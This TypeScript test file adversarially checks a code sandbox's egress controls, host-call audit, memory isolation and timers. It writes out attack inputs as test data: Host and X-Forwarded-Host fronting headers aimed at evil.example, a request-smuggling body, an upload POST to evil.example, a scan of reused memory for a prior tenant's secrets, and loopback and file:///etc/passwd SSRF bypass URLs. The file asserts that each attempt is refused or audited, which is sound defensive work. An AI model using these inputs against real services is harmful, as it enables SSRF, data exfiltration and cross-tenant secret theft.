import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { guardedHttpRequest, PERMISSIONS, resolveEgressTarget, SandboxSupervisor } from '../src/index.js';
import type { HostCallAuditEntry, HostHandlers, HostResolver } from '../src/index.js';
import { runCode } from './fixtures/harness.js';

// Adversarial review of the sandbox (escapes, limits, egress scope, host-call audit). The only fake is the outside
// network: a stub resolver maps the test names to one loopback server started here, which records every request it
// receives (method, path, Host header), so "refused" means the server really saw nothing.
const resolver: HostResolver = async (host) => {
  if (host === 'allowed.test' || host === 'other.test') return [{ address: '127.0.0.1', family: 4 }];
  throw new Error('NXDOMAIN');
};
const seen: Array<{ method: string; url: string; host: string | undefined }> = [];
const server = createServer((req, res) => {
  seen.push({ method: req.method ?? '', url: req.url ?? '', host: req.headers.host });
  if (req.url?.startsWith('/hang')) return; // accepted, never answered: the request has left and had its effect
  const port = (server.address() as AddressInfo).port;
  const bounces: Record<string, string> = {
    '/bounce': `http://other.test:${port}/hang?token=t0k3n`,
    '/bounce-twice': `http://other.test:${port}/collect-and-bounce`,
    '/collect-and-bounce': `http://allowed.test:${port}/innocent`,
  };
  const location = bounces[req.url ?? ''];
  if (location) { req.resume(); res.writeHead(307, { location }); res.end(); return; }
  req.resume();
  req.on('end', () => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ path: req.url, host: req.headers.host }));
  });
});
const egress = { allowHttp: true, allowedAddressRanges: ['127.0.0.1/32'], resolver };
const handlers: HostHandlers = {
  http_request: (request, context) => guardedHttpRequest(request, {
    ...egress, allowedDomains: context.config.allowed_domains, signal: context.signal, onRedirect: context.onRedirect,
  }),
};
const network = { permissions: [...PERMISSIONS.CODER], allow_network: true, allowed_domains: ['allowed.test'] };

let sandbox: SandboxSupervisor;
let base = '';
beforeAll(async () => {
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  base = `http://allowed.test:${(server.address() as AddressInfo).port}`;
  network.allowed_domains = [`allowed.test:${(server.address() as AddressInfo).port}`]; // an entry without a port allows 443 only
  sandbox = new SandboxSupervisor({ maxWorkers: 1, allowHttpEgress: true, killGraceMs: 100 });
  await sandbox.start();
});
afterAll(async () => {
  await sandbox.close();
  server.closeAllConnections();
  await new Promise<void>((r) => server.close(() => r()));
});
beforeEach(() => { seen.length = 0; });

const call = (args: string): string => `try { return await tollgate.http_request(${args}) } catch (e) { return { code: e.code, message: e.message } }`;

describe('http_request headers that leave the checked URL', () => {
  it('sends an ordinary request to the allowed host with its own Host header (control case)', async () => {
    const result = await runCode(sandbox, call(`'${base}/ok', 'GET', { Accept: 'application/json', 'X-Trace': '1' }`), network, { handlers });
    expect(result.output).toMatchObject({ status: 200, body: { path: '/ok' } });
    expect(seen).toEqual([{ method: 'GET', url: '/ok', host: `allowed.test:${base.split(':')[2]}` }]);
  });

  // Domain fronting: with Host (and through it the TLS SNI name) chosen by the guest, a request to an allowed name on
  // a shared CDN or hosting address was served by whichever other site the guest named.
  it.each([
    ['Host', { Host: 'evil.example' }],
    ['host in another case', { hOsT: 'evil.example' }],
  ])('refuses a guest-chosen %s header (domain fronting past allowed_domains)', async (_name, headers) => {
    const result = await runCode(sandbox, call(`'${base}/fronted', 'GET', ${JSON.stringify(headers)}`), network, { handlers });
    expect(result.output).toMatchObject({ code: 'PERMISSION_DENIED', message: expect.stringMatching(/host header/) });
    expect(seen).toEqual([]);
    expect(result.host_call_audit).toEqual([expect.objectContaining({ fn: 'http_request', allowed: false, reason: 'forbidden_header:host' })]);
    expect(result.violations).toEqual([expect.objectContaining({ kind: 'network_denied' })]);
  });

  // The same escape one proxy further: reverse proxies and frameworks route on these behind an allowed name.
  it.each([
    ['x-forwarded-host', { 'X-Forwarded-Host': 'evil.example' }],
    ['forwarded', { Forwarded: 'host=evil.example' }],
    ['x-original-url', { 'X-Original-URL': '/admin' }],
    ['x-rewrite-url', { 'x-rewrite-url': '/admin' }],
  ])('refuses the routing header %s', async (name, headers) => {
    const result = await runCode(sandbox, call(`'${base}/routed', 'GET', ${JSON.stringify(headers)}`), network, { handlers });
    expect(result.output).toMatchObject({ code: 'PERMISSION_DENIED' });
    expect(seen).toEqual([]);
    expect(result.host_call_audit).toEqual([expect.objectContaining({ fn: 'http_request', allowed: false, reason: `forbidden_header:${name}` })]);
  });

  // Smuggling: Content-Length shorter than the body made the rest of the body a second request on the same
  // connection, with its own Host and path, that neither the domain check nor the audit saw.
  it('refuses a Content-Length that would smuggle a second request', async () => {
    const body = `xGET /smuggled HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n`;
    const result = await runCode(sandbox, call(`'${base}/a', 'POST', { 'Content-Length': '1', Connection: 'keep-alive' }, "${body}"`), network, { handlers });
    expect(result.output).toMatchObject({ code: 'PERMISSION_DENIED' });
    expect(seen).toEqual([]);
  });

  it.each(['Transfer-Encoding', 'Connection', 'Upgrade', 'TE', 'Expect'])('refuses the %s header', async (name) => {
    const result = await runCode(sandbox, call(`'${base}/h', 'POST', { ${JSON.stringify(name)}: 'x' }, 'body'`), network, { handlers });
    expect(result.output).toMatchObject({ code: 'PERMISSION_DENIED' });
    expect(seen).toEqual([]);
  });

  it('refuses the same headers in guardedHttpRequest itself, for any other caller', async () => {
    const body = 'xGET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n';
    await expect(guardedHttpRequest({ url: `${base}/a`, method: 'POST', headers: { 'content-length': '1' }, body }, egress))
      .rejects.toMatchObject({ code: 'SANDBOX_EGRESS_DENIED', message: expect.stringMatching(/content-length/) });
    await expect(guardedHttpRequest({ url: `${base}/a`, method: 'GET', headers: { Host: 'evil.example' }, body: undefined }, egress))
      .rejects.toMatchObject({ code: 'SANDBOX_EGRESS_DENIED' });
    expect(seen).toEqual([]);
  });
});

describe('host-call audit of calls the run ended on', () => {
  // A request that had already left (the server received the POST) was missing from host_call_audit when the run
  // timed out or was killed before the reply: the audit entry was only written when the handler returned.
  it('records an http_request still in flight at the deadline, before the result is returned', async () => {
    const streamed: HostCallAuditEntry[] = [];
    const result = await runCode(sandbox, `await tollgate.http_request('${base}/hang', 'POST', {}, { transfer: 100 })`,
      { ...network, cpu_time_limit_ms: 400 }, { handlers, onHostCall: (entry) => streamed.push(entry) });
    expect(result.status).toBe('timeout');
    expect(seen).toEqual([expect.objectContaining({ method: 'POST', url: '/hang' })]);
    const entry = { fn: 'http_request', allowed: true, args_summary: `POST http://${base.slice(7)}/hang`, reason: expect.stringMatching(/^unfinished/) };
    expect(result.host_call_audit).toEqual([expect.objectContaining(entry)]);
    expect(streamed).toEqual([expect.objectContaining(entry)]);
    await new Promise((r) => setTimeout(r, 100)); // the aborted handler settles later and must not add a second entry
    expect(streamed).toHaveLength(1);
  });

  it('records an http_request still in flight when the run is killed', async () => {
    const running = runCode(sandbox, `await tollgate.http_request('${base}/hang')`, network, { handlers, executionId: 'kill-in-flight' });
    while (seen.length === 0) await new Promise((r) => setTimeout(r, 10));
    expect(sandbox.kill('kill-in-flight', 'test')).toBe(true);
    const result = await running;
    expect(result.status).toBe('killed');
    expect(result.host_call_audit).toEqual([expect.objectContaining({ fn: 'http_request', allowed: true, reason: expect.stringMatching(/^unfinished/) })]);
  });
});

describe('host-call audit of calls the worker refused', () => {
  // Arguments too large or not serialisable were refused inside the worker: the guest got an error, but the parent
  // never heard of the attempt, so an http_request to a forbidden host with a 2 MB body left no audit entry at all.
  it('audits calls refused before they could cross, as denied and counted', async () => {
    const result = await runCode(sandbox, `const out = [];
      try { await tollgate.http_request('https://evil.example/upload', 'POST', {}, 'x'.repeat(2 * 1024 * 1024)) } catch (e) { out.push(e.name) }
      try { await tollgate.read_context(10n) } catch (e) { out.push(e.name) }
      try { await tollgate.read_context({ toJSON() { throw new Error('no') } }) } catch (e) { out.push(e.message) }
      return out;`, network, { handlers });
    expect(result.output).toEqual(['RangeError', 'TypeError', 'no']);
    expect(result.host_call_audit).toEqual([
      expect.objectContaining({ fn: 'http_request', allowed: false, reason: 'invalid_arguments', args_summary: expect.stringMatching(/limit 1048576/) }),
      expect.objectContaining({ fn: 'read_context', allowed: false, reason: 'invalid_arguments', args_summary: 'argument 1 could not be serialised' }),
      expect.objectContaining({ fn: 'read_context', allowed: false, reason: 'invalid_arguments' }),
    ]);
    expect(result.resource_usage).toMatchObject({ api_calls: 3, host_calls: 3 });
  });
});

describe('host-call audit of redirects', () => {
  // The audit named only the URL the guest asked for: a 307 (method and body kept) from an open redirect on one
  // allowed host to another host, and back again, left the ledger saying the body went to the first host only.
  it('names every host a request was redirected to, without query strings', async () => {
    const result = await runCode(sandbox, `return (await tollgate.http_request('${base}/bounce-twice', 'POST', {}, { exfiltrated: 1 })).body`,
      { ...network, allowed_domains: [...network.allowed_domains, `other.test:${new URL(base).port}`] }, { handlers });
    expect(seen.map((r) => `${r.method} ${r.host?.split(':')[0]}${r.url}`)).toEqual([
      'POST allowed.test/bounce-twice', 'POST other.test/collect-and-bounce', 'POST allowed.test/innocent',
    ]);
    const port = base.split(':')[2];
    expect(result.host_call_audit).toEqual([expect.objectContaining({
      fn: 'http_request', allowed: true,
      args_summary: `POST http://allowed.test:${port}/bounce-twice -> http://other.test:${port}/collect-and-bounce -> http://allowed.test:${port}/innocent`,
    })]);
  });

  it('names the redirect target of a call still in flight when the run ends, and drops its query', async () => {
    const result = await runCode(sandbox, `await tollgate.http_request('${base}/bounce', 'POST', {}, 'x')`,
      { ...network, allowed_domains: [...network.allowed_domains, `other.test:${new URL(base).port}`], cpu_time_limit_ms: 400 }, { handlers });
    expect(result.status).toBe('timeout');
    expect(seen.map((r) => r.url)).toEqual(['/bounce', '/hang?token=t0k3n']);
    expect(result.host_call_audit).toEqual([expect.objectContaining({
      reason: expect.stringMatching(/^unfinished/), args_summary: expect.stringMatching(/\/bounce -> http:\/\/other\.test:\d+\/hang$/),
    })]);
    expect(JSON.stringify(result.host_call_audit)).not.toContain('t0k3n');
  });
});

describe('copy amplification into the server process', () => {
  // The audit summary of read_context was `key.slice(0, 100)` of whatever the guest sent: V8 keeps a slice's whole
  // parent string alive, so every refused 1 MB key stayed in the server's heap for as long as the audit entry (the
  // run, its result, the ledger queue). 10 000 host calls per run = 10 GB: one agent could exhaust the server.
  it('keeps no oversized argument alive through the audit entry of a refused call', async () => {
    setFlagsFromString('--expose_gc');
    const gc = runInNewContext('gc') as () => void;
    gc();
    const before = process.memoryUsage().heapUsed;
    const result = await runCode(sandbox, `const big = 'k'.repeat(1024 * 1024 - 16);
      for (let i = 0; i < 60; i++) tollgate.read_context(big + String(i).padStart(2, '0'));
      tollgate.read_context([big.slice(0, 500000), big.slice(1, 500000)]);
      for (let i = 0; i < 20; i++) tollgate.http_request('https://example.com/' + big.slice(100) + i);
      for (let i = 0; i < 20; i++) tollgate.http_request('https://example.com/', big.slice(100) + i);
      return 1`, { cpu_time_limit_ms: 30_000, memory_limit_mb: 128 }, { handlers: { read_context: async () => null } });
    gc();
    const retainedMb = (process.memoryUsage().heapUsed - before) / 1048576;
    expect(result.error).toBeUndefined();
    expect(result.host_call_audit).toHaveLength(101);
    expect(result.host_call_audit[0]).toMatchObject({ allowed: false, reason: 'invalid_arguments' });
    expect(retainedMb).toBeLessThan(16);
    expect(new Set(result.host_call_audit.map((entry) => entry.args_summary))).toEqual(new Set([
      'key=<invalid: string of 1048562 chars>', 'key=<invalid: array>', 'GET <invalid url>', '<invalid method> https://example.com/',
    ]));
  }, 60_000);
});

describe('memory left behind by earlier executions on the same worker', () => {
  // Workers are reused across executions (and tenants); each run gets a fresh QuickJS runtime, but the WASM memory
  // is the same. A growable SharedArrayBuffer's grow() exposed its uninitialised tail: the previous run's strings
  // (inputs, outputs, http responses, another tenant's secrets) were readable byte by byte.
  it('cannot read a previous execution\'s data through any buffer it can allocate or grow', async () => {
    const single = new SandboxSupervisor({ maxWorkers: 1, warmWorkers: 1 });
    await single.start();
    try {
      const first = await runCode(single, `const keep = [];
        for (let i = 0; i < 3000; i++) keep.push(JSON.stringify({ tenant: 'A', apiKey: 'sk-tenantA-' + i + '-PRIORRUNSECRET' }));
        return keep.length`, {}, { input: { password: 'hunter2-PRIORRUNSECRET' } });
      expect(first.output).toBe(3000);
      const second = await runCode(single, `const found = []; const tried = [];
        const scan = (name, make) => {
          let u8; try { u8 = make(); } catch (e) { return; }
          tried.push(name);
          for (let i = 0; i < u8.length; i += 8192) {
            const text = String.fromCharCode.apply(null, Array.from(u8.subarray(i, i + 8192)));
            if (text.includes('PRIORRUN' + 'SECRET')) { found.push(name); return; }
          }
        };
        for (let k = 0; k < 4; k++) {
          scan('SharedArrayBuffer.grow', () => { const b = new SharedArrayBuffer(8, { maxByteLength: 1 << 20 }); b.grow(1 << 20); return new Uint8Array(b); });
          scan('ArrayBuffer.resize', () => { const b = new ArrayBuffer(8, { maxByteLength: 1 << 20 }); b.resize(1 << 20); return new Uint8Array(b); });
          scan('ArrayBuffer.transfer', () => new Uint8Array(new ArrayBuffer(8).transfer(1 << 20)));
          scan('new ArrayBuffer', () => new Uint8Array(new ArrayBuffer(1 << 20)));
          scan('new Float64Array', () => new Uint8Array(new Float64Array(1 << 17).buffer));
        }
        return { found: [...new Set(found)], tried: [...new Set(tried)], sab: typeof SharedArrayBuffer };`, { cpu_time_limit_ms: 25_000 });
      expect(second.error).toBeUndefined();
      expect(second.output).toMatchObject({ found: [], sab: 'undefined' });
      expect((second.output as { tried: string[] }).tried).toEqual(expect.arrayContaining(['ArrayBuffer.resize', 'ArrayBuffer.transfer', 'new ArrayBuffer']));
    } finally {
      await single.close();
    }
  }, 60_000);
});

describe('timers', () => {
  // `const id = setInterval(() => { clearInterval(id); … })` freed the callback (and its arguments) while QuickJS was
  // still running it: a use-after-free in the engine heap that a worker reused by other executions keeps.
  it.each([
    ['the callback', `const tag = 'closure-' + 'value';
      return await new Promise((resolve) => { const id = setInterval(() => { clearInterval(id);
        const junk = []; for (let i = 0; i < 20000; i++) junk.push({ a: 'j' + i, b: [i, i] }); resolve([tag, typeof resolve]); }, 0); });`,
    ['closure-value', 'function']],
    ['its arguments', `return await new Promise((resolve) => { let id; id = setInterval((o) => { clearInterval(id);
        const junk = []; for (let i = 0; i < 20000; i++) junk.push({ a: 'j' + i, b: [i, i] }); resolve(JSON.stringify(o)); }, 0, { list: [1, 2, 3] }); });`,
    '{"list":[1,2,3]}'],
  ])('an interval that clears itself keeps %s alive until it returns', async (_name, code, expected) => {
    for (let i = 0; i < 3; i++) {
      const result = await runCode(sandbox, code, {}, {});
      expect(result.error).toBeUndefined();
      expect(result.output).toEqual(expected);
    }
  });
});

describe('what held', () => {
  it('offers no WebAssembly, Atomics, module loader or host globals; eval and Function stay inside the guest', async () => {
    const result = await runCode(sandbox, `const out = {};
      for (const n of ['WebAssembly', 'Atomics', 'process', 'require', 'std', 'os', 'fetch', 'console', 'scriptArgs']) out[n] = typeof globalThis[n];
      try { await import('os'); out.import = 'loaded' } catch (e) { out.import = e.name }
      out.eval = eval('typeof process'); out.fn = Function('return typeof require')();
      return out;`);
    expect(result.output).toEqual({
      WebAssembly: 'undefined', Atomics: 'undefined', process: 'undefined', require: 'undefined', std: 'undefined', os: 'undefined',
      fetch: 'undefined', console: 'undefined', scriptArgs: 'undefined', import: 'ReferenceError', eval: 'undefined', fn: 'undefined',
    });
  });

  it('runs toJSON and Symbol.toPrimitive of host-call arguments as guest code, even when they re-enter the bridge', async () => {
    const result = await runCode(sandbox, `let inner;
      const arg = { toJSON() { inner = tollgate.http_request('${base}/inner'); return '${base}/outer' } };
      const key = { [Symbol.toPrimitive]() { throw new Error('never called by the host') }, toJSON() { return 'k' } };
      const outer = await tollgate.http_request(arg);
      return [outer.body.path, (await inner).body.path, await tollgate.read_context(key)];`, network, { handlers });
    expect(result.output).toEqual(['/outer', '/inner', null]);
    expect(result.host_call_audit.map((a) => a.args_summary)).toEqual(expect.arrayContaining([`GET ${base}/inner`, `GET ${base}/outer`]));
  });

  it('never lets the guest reach a host Promise: a polluted then only sees fresh guest objects', async () => {
    const result = await runCode(sandbox, `const seen = [];
      Object.prototype.then = function (resolve) { seen.push(this.constructor.constructor('return typeof process')()); delete Object.prototype.then; resolve(this) };
      const response = await tollgate.http_request('${base}/then');
      return [seen, response.body.path];`, network, { handlers });
    expect(result.output).toEqual([['undefined'], '/then']);
  });
});

describe('egress scope (what held)', () => {
  const zone: Record<string, string> = { 'allowed.test': '93.184.215.14', 'sub.allowed.test': '93.184.215.16', 'evil.test': '93.184.215.15', localhost: '127.0.0.1' };
  const publicResolver: HostResolver = async (host) => {
    const address = zone[host];
    if (!address) throw new Error('NXDOMAIN');
    return [{ address, family: 4 }];
  };
  it.each([
    ['userinfo naming the allowed host', 'https://allowed.test@evil.test/', /credentials in the URL/],
    ['an encoded slash in userinfo', 'https://evil.test%2F@allowed.test/', /credentials in the URL/],
    ['the allowed host after a fragment', 'https://evil.test#@allowed.test/', /evil\.test is not in allowed_domains/],
    ['the allowed host after a backslash', 'https://evil.test\\@allowed.test/', /evil\.test is not in allowed_domains/],
    ['the allowed host in the query', 'https://evil.test?.allowed.test', /evil\.test is not in allowed_domains/],
    ['a subdomain of an exact entry', 'https://sub.allowed.test/', /not in allowed_domains/],
    ['a NUL in the host', 'https://allowed.test%00.evil.test/', /invalid URL/],
  ])('refuses %s against allowed_domains [allowed.test]', async (_name, url, message) => {
    await expect(resolveEgressTarget(url, { allowedDomains: ['allowed.test'] }, publicResolver)).rejects.toMatchObject({ code: 'SANDBOX_EGRESS_DENIED', message: expect.stringMatching(message) });
  });

  it.each([['upper case and a trailing dot', 'https://ALLOWED.TEST./x'], ['an ideographic full stop', 'https://allowed\u3002test/']])(
    'treats %s as the allowed host itself', async (_name, url) => {
      await expect(resolveEgressTarget(url, { allowedDomains: ['allowed.test'] }, publicResolver)).resolves.toMatchObject({ hostname: 'allowed.test', address: '93.184.215.14' });
    });

  it.each([
    ['0.0.0.0', 'https://0.0.0.0/', /unspecified/], ['a bare 0', 'https://0/', /unspecified/], ['127.1', 'https://127.1/', /loopback/],
    ['octal 0177.0.0.1', 'https://0177.0.0.1/', /loopback/], ['hex 0x7f.1', 'https://0x7f.1/', /loopback/],
    ['a percent-encoded IP', 'https://%31%32%37.0.0.1/', /loopback/], ['[::]', 'https://[::]/', /unspecified/],
    ['IPv4-compatible ::127.0.0.1', 'https://[::127.0.0.1]/', /reserved/], ['hex-mapped ::ffff:7f00:1', 'https://[::ffff:7f00:1]/', /ipv4-mapped/],
    ['NAT64 of loopback', 'https://[64:ff9b::7f00:1]/', /translated/], ['6to4 of loopback', 'https://[2002:7f00:1::]/', /translated/],
    ['an IPv6 zone id', 'https://[fe80::1%25lo]/', /invalid URL/], ['enclosed-alphanumeric localhost', 'https://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/', /loopback/],
    ['LOCALHOST.', 'https://LOCALHOST./', /loopback/], ['a file: URL', 'file:///etc/passwd', /HTTPS only/], ['a ws: URL', 'ws://allowed.test/', /HTTPS only/],
  ])('refuses %s with allowed_domains empty (any public host)', async (_name, url, message) => {
    await expect(resolveEgressTarget(url, { allowedDomains: [] }, publicResolver)).rejects.toMatchObject({ code: 'SANDBOX_EGRESS_DENIED', message: expect.stringMatching(message) });
  });
});
